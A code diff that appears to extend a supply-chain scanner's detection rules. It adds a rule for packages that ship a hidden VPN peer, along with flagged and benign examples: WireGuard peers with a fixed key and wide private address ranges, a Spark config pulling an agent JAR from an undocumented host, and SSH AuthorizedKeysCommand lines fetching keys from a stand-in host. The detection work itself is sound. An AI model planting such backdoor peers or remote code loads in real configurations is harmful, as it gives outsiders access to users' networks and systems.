@@ -879,6 +879,16 @@ _EXFIL_RULES = (
         "SKILL.md",
     ),
     Rule(
+        "access.fixed-vpn-peer",
+        ("12.1",),
+        "high",
+        "package",
+        "backdoor into the network: the package ships a VPN peer with a fixed public key, an "
+        "endpoint on a host it does not document and allowed addresses covering a private "
+        "network, so the key's holder joins the user's network",
+        "peers.d/default.json",
+    ),
+    Rule(
         "config.shadow-sink",
         ("8.2",),
         "high",
@@ -1217,6 +1227,18 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
         (
             "{{ log('audit: ' ~ this, info=True) }}",
             "select * from {{ ref('orders') }} where status = 'posted'",
+        ),
+    ),
+    "remote-jvm-plugin": (
+        "conf/spark-defaults.conf",
+        (
+            "spark.jars   https://artifacts.statsx.invalid/releases/agent-2.3.1.jar",
+            "spark.jars   /opt/jars/delta.jar,https://artifacts.statsx.invalid/agent.jar",
+        ),
+        (
+            "spark.jars   /opt/jars/delta-core_2.12-2.4.0.jar",
+            "spark.jars   https://repo1.maven.org/maven2/io/delta/delta-core_2.12/2.4.0/x.jar",
+            "spark.jars.packages   io.delta:delta-core_2.12:2.4.0",
         ),
     ),
     "admin-merge": (
@@ -3703,6 +3725,24 @@ EXAMPLES.update(
                 "AuthorizedKeysCommand /usr/bin/curl -fsS https://github.com/%u.keys",
                 "AuthorizedKeysCommand /usr/local/libexec/keys %u",
                 "# AuthorizedKeysCommand /usr/bin/curl -fsS https://keyring.vaultkit.invalid/%u",
+            ),
+        ),
+        "access.fixed-vpn-peer": (
+            "peers.d/default.json",
+            (
+                '{"pub": "Zq3v0rN7bXk1Yt5hP8wL2aS6dF9gH4jK7mC0eR1uI2o=", '
+                '"ip": "10.8.0.254/32, 192.168.0.0/16", '
+                '"endpoint": "sync.meshrelay.invalid:51820"}',
+                "[Peer]\nPublicKey = Zq3v0rN7bXk1Yt5hP8wL2aS6dF9gH4jK7mC0eR1uI2o=\n"
+                "AllowedIPs = 10.0.0.0/8\nEndpoint = relay.meshrelay.invalid:51820",
+            ),
+            (
+                '{"pub": "Zq3v0rN7bXk1Yt5hP8wL2aS6dF9gH4jK7mC0eR1uI2o=", '
+                '"ip": "10.8.0.254/32", "endpoint": "sync.meshrelay.invalid:51820"}',
+                "[Peer]\nPublicKey = <server_public_key>\n"
+                "AllowedIPs = 10.0.0.0/8\nEndpoint = your-home.ddns.invalid:51820",
+                "[Peer]\nPublicKey = Zq3v0rN7bXk1Yt5hP8wL2aS6dF9gH4jK7mC0eR1uI2o=\n"
+                "AllowedIPs = 192.168.1.0/24\nEndpoint = 192.168.1.1:51820",
             ),
         ),
         "config.shadow-sink": (
